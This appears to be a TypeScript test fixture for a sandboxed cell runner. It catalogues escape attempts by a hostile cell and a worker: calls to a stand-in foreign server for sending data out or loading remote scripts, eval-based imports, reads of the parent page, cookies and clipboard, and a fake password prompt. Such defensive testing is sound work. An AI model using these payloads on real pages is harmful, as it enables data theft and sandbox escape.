/**
 * What a hostile cell tries, by name: bodies of async functions, with `E` the address of a foreign server and `frame(html)` for a document within. One
 * gives `GOT …` if it got something, anything else or an error if it did not.
 */
export const attempts: Readonly<Record<string, string>> = {
  'reads the page': 'return "GOT " + parent.document.title',
  'reads where the page is': 'return "GOT " + top.location.href',
  'reaches into the page’s windows': 'return "GOT " + parent.framePort',
  'takes the page elsewhere': 'top.location.href = E + "/top"; return "tried"',
  'takes the page elsewhere by a link':
    'const a = document.createElement("a"); a.href = E + "/topLink"; a.target = "_top"; document.body.append(a); a.click(); return "tried"',
  'opens a window': 'const w = window.open(E + "/open"); return w ? "GOT a window" : "none"',
  'finds who opened it': 'return opener ? "GOT an opener" : "none"',
  'keeps in localStorage': 'window.localStorage.setItem("x", 1); return "GOT it"',
  'keeps in sessionStorage': 'window.sessionStorage.setItem("x", 1); return "GOT it"',
  'opens IndexedDB':
    'return new Promise((ok) => { const r = window.indexedDB.open("x"); r.onsuccess = () => ok("GOT it"); r.onerror = () => ok(r.error.name) })',
  'lists databases': 'return "GOT " + (await window.indexedDB.databases()).length',
  'opens caches': 'await window.caches.open("x"); return "GOT it"',
  'sets a cookie': 'document.cookie = "x=1"; return document.cookie ? "GOT it" : "none"',
  'asks for a folder': 'await navigator.storage.getDirectory(); return "GOT it"',
  'registers a service worker': 'await navigator.serviceWorker.register(location.href); return "GOT it"',
  'starts a shared worker':
    'return new Promise((ok) => { const w = new window.SharedWorker(URL.createObjectURL(new Blob(["onconnect = (e) => e.ports[0].postMessage(1)"]))); w.port.onmessage = () => ok("answers"); w.onerror = () => ok("error"); setTimeout(() => ok("silent"), 500) })',
  'starts the page’s worker':
    'const w = new Worker(new URL("./assets/WORKER", location.href)); w.postMessage({ id: "1", type: "APPLY", path: ["cancel"], argumentList: [{ type: "RAW", value: 1 }] }); return new Promise((ok) => { w.onmessage = () => ok("GOT an answer"); w.onerror = () => ok("error"); setTimeout(() => ok("silent"), 500) })',
  'talks on the page’s channel': 'new BroadcastChannel("zhili").postMessage("hello"); return "tried"',
  'takes a lock of the page': 'return navigator.locks.request("zhili", { ifAvailable: true }, (lock) => "GOT " + lock)',
  fetches: 'await fetch(E + "/fetch", { mode: "no-cors" }); return "GOT it"',
  'fetches its own server': 'await fetch("./index.html"); return "GOT it"',
  'asks by XMLHttpRequest':
    'const r = new XMLHttpRequest(); r.open("GET", E + "/xhr", false); r.send(); return "GOT " + r.status',
  'opens a socket':
    'return new Promise((ok) => { const s = new WebSocket(E.replace("http", "ws") + "/ws"); s.onopen = () => ok("GOT it"); s.onerror = () => ok("error") })',
  'listens to events':
    'return new Promise((ok) => { const s = new EventSource(E + "/es"); s.onopen = () => ok("GOT it"); s.onerror = () => ok("error") })',
  'sends a beacon': 'navigator.sendBeacon(E + "/beacon", "x"); return "tried"',
  'fetches later': 'window.fetchLater(E + "/later", { activateAfter: 0 }); return "tried"',
  'opens a WebTransport': 'await new window.WebTransport(E.replace("http:", "https:") + "/wt").ready; return "GOT it"',
  'pings from a link':
    'const a = document.createElement("a"); a.href = "#x"; a.ping = E + "/ping"; document.body.append(a); a.click(); return "tried"',
  'shows pictures, media, plug-ins':
    'document.body.insertAdjacentHTML("beforeend", `<img src="${E}/img"><video src="${E}/video"></video><audio src="${E}/audio"></audio><object data="${E}/object"></object><embed src="${E}/embed"><svg><image href="${E}/svgImage"/><use href="${E}/use#a"/></svg><input type="image" src="${E}/input"><picture><source srcset="${E}/source"><img></picture>`); return "tried"',
  'loads by style sheets':
    'document.body.insertAdjacentHTML("beforeend", `<style>@import "${E}/import.css"; @font-face { font-family: f; src: url("${E}/font") } body { background: url("${E}/background"); font-family: f }</style><link rel="stylesheet" href="${E}/sheet.css"><p style="background: url(${E}/inline); cursor: url(${E}/cursor), auto">x</p>`); return "tried"',
  'hints at resources':
    'for (const rel of ["prefetch", "preload", "modulepreload", "prerender", "dns-prefetch", "icon", "manifest", "next"]) document.head.insertAdjacentHTML("beforeend", `<link rel="${rel}" as="image" href="${E}/${rel}">`); return "tried"',
  speculates:
    'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: [{ source: "list", urls: [E + "/speculation"] }] }); document.head.append(s); return "tried"',
  'sends a form':
    'document.body.insertAdjacentHTML("beforeend", `<form action="${E}/form" method="post"><input name="x" value="1"></form>`); document.body.lastElementChild.submit(); return "tried"',
  'loads a script':
    'const s = document.createElement("script"); s.src = E + "/script.js"; document.head.append(s); return "tried"',
  'writes a script':
    'const s = document.createElement("script"); s.textContent = "window.inlineRan = 1"; document.head.append(s); return window.inlineRan ? "GOT it" : "refused"',
  'imports from elsewhere behind the compiler’s back': 'await eval("imp" + "ort(E + \'/module.js\')"); return "GOT it"',
  'imports a module of text': 'await eval("imp" + "ort(\'data:text/javascript,export default 1\')"); return "GOT it"',
  'frames a foreign document':
    'document.body.insertAdjacentHTML("beforeend", `<iframe src="${E}/iframe"></iframe>`); return "tried"',
  'frames the page':
    'document.body.insertAdjacentHTML("beforeend", `<iframe src="./index.html"></iframe>`); return "tried"',
  'makes a frame without a policy':
    'const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob([`<script>parent.postMessage("ran", "*")</scr` + `ipt><img src="${E}/blobFrame">`], { type: "text/html" })); document.body.append(f); return heard(500)',
  'runs code in a document of text':
    'frame(`<script>parent.postMessage("ran", "*")</scr` + `ipt><img src="${E}/srcdoc" onerror="parent.postMessage(1, \'*\')">`); return heard(500)',
  'takes functions of another window':
    'const f = document.createElement("iframe"); document.body.append(f); return "GOT " + typeof f.contentWindow.fetch',
  'connects to peers':
    'return typeof window.RTCPeerConnection === "undefined" && typeof window.webkitRTCPeerConnection === "undefined" ? "gone" : "GOT them"',
  'gets out of the sandbox by the frame element': 'return frameElement ? "GOT it" : "none"',
  'goes to a script address':
    'location.href = "javascript:window.jsRan = 1"; await new Promise((ok) => setTimeout(ok, 100)); return window.jsRan ? "GOT it" : "refused"',
  'asks for the microphone': 'await navigator.mediaDevices.getUserMedia({ audio: true }); return "GOT it"',
  'asks where it is':
    'return new Promise((ok) => navigator.geolocation.getCurrentPosition(() => ok("GOT it"), (e) => ok("error " + e.code)))',
  'reads the clipboard': 'return "GOT " + (await navigator.clipboard.readText())',
  'asks to notify': 'return (await Notification.requestPermission()) === "granted" ? "GOT it" : "denied"',
  'shares memory with the page': 'parent.postMessage(new window.SharedArrayBuffer(8), "*"); return "tried"',
  'stores a file by a picker': 'await window.showSaveFilePicker(); return "GOT it"',
  'takes the whole screen': 'await document.documentElement.requestFullscreen(); return "GOT it"',
  'takes the pointer':
    'await document.body.requestPointerLock(); return document.pointerLockElement ? "GOT it" : "none"',
  'plays a sound':
    'const a = new Audio("data:audio/wav;base64,UklGRiQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YQAAAAA="); await a.play(); return "GOT it"',
  'keeps the screen on': 'await navigator.wakeLock.request("screen"); return "GOT it"',
  'shows a dialog': 'return prompt("password?") === null ? "none" : "GOT an answer"',
};

/** What ends the document it is tried in. */
export const lastAttempts: Readonly<Record<string, string>> = {
  'downloads from elsewhere':
    'const a = document.createElement("a"); a.href = E + "/download?secret"; a.download = "x"; a.click()',
  'goes elsewhere': 'location.href = E + "/location"',
  'goes elsewhere at once':
    'document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${E}/refresh">`)',
  'goes to a document of its own':
    'location.href = URL.createObjectURL(new Blob([`<img src="${E}/blob">`], { type: "text/html" }))',
  'goes to a document of text': 'location.href = `data:text/html,<img src="${E}/data">`',
  'writes the document anew': 'document.open(); document.write(`<img src="${E}/written">`); document.close()',
  'goes to the page': 'location.href = "./index.html"',
};

/** Body of a rule that looks for a way out of its worker and throws what it found. */
export const hostileRule = `(values) => {
  const g = (() => {}).constructor("return globalThis")();
  const E = "ADDRESS";
  const found = [];
  const attempt = (name, run) => { try { found.push(name + ": " + run()); } catch (e) { found.push(name + ": " + e.name); } };
  attempt("origin", () => g.origin);
  attempt("document", () => typeof g.document);
  attempt("fetch", () => { g.fetch(E + "/workerFetch").catch(() => {}); return "tried"; });
  attempt("fetch here", () => { g.fetch(g.location.href).catch(() => {}); return "tried"; });
  attempt("xhr", () => { const r = new g.XMLHttpRequest(); r.open("GET", E + "/workerXhr", false); r.send(); return "GOT " + r.status; });
  attempt("socket", () => { new g.WebSocket(E.replace("http", "ws") + "/workerWs"); return "tried"; });
  attempt("events", () => { new g.EventSource(E + "/workerEs"); return "tried"; });
  attempt("script", () => { g.importScripts(E + "/workerScript.js"); return "GOT it"; });
  attempt("worker", () => { new g.Worker(E + "/workerWorker.js"); return "tried"; });
  attempt("databases", () => { g.indexedDB.open("x"); return "GOT it"; });
  attempt("caches", () => { g.caches.open("x").catch(() => {}); return "tried"; });
  attempt("channel", () => { new g.BroadcastChannel("zhili").postMessage("hello"); return "tried"; });
  attempt("peers", () => typeof g.RTCPeerConnection === "undefined" ? "none" : "GOT them");
  throw new Error(JSON.stringify(found));
}`;
